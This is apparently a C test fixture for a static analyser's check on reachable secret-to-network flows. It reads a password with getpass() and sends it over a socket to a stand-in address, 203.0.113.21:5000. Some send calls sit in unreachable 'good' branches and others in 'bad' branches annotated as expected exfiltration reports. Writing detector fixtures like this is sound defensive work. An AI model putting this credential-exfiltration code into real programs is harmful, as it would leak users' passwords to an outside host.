/* What no unit of the program ever turns on is not told; what one may turn on is. */
#include "build.h"

#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(5000)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_aton("203.0.113.21", &to.sin_addr);
    return connect(fd, (struct sockaddr *)&to, sizeof to) == 0 ? fd : -1;
}

/* Only what never happens leads here. */
static void good_dump(int fd) {
    char *word = getpass("Word: ");
    send(fd, word, strlen(word), 0);
}

static void good_switches(int fd, const char *word) {
    if (mirrors)
        send(fd, word, strlen(word), 0);
    if (verbosity > 2 || verbosity < 0)
        send(fd, word, strlen(word), 0);
    if (!has_uplink)
        send(fd, word, strlen(word), 0);
}

static void good_functions(int fd, const char *word) {
    if (is_factory_build()) {
        send(fd, word, strlen(word), 0);
        good_dump(fd);
    }
    if (!is_released())
        good_dump(fd);
}

static void bad_switches(int fd, const char *word) {
    if (level > 3)
        // report@+1: exfil/secret-to-network
        send(fd, word, strlen(word), 0);
    if (verbosity)
        // report@+1: exfil/secret-to-network
        send(fd, word, strlen(word), 0);
}

static void bad_function(int fd, const char *word) {
    if (is_asked())
        // report@+1: exfil/secret-to-network
        send(fd, word, strlen(word), 0);
}

int main(int argc, char **argv) {
    int fd = dial();
    const char *word = getpass("Password: ");
    ask(argv[argc - 1]);
    raise_level(argc);
    good_switches(fd, word);
    good_functions(fd, word);
    bad_switches(fd, word);
    bad_function(fd, word);
    return 0;
}
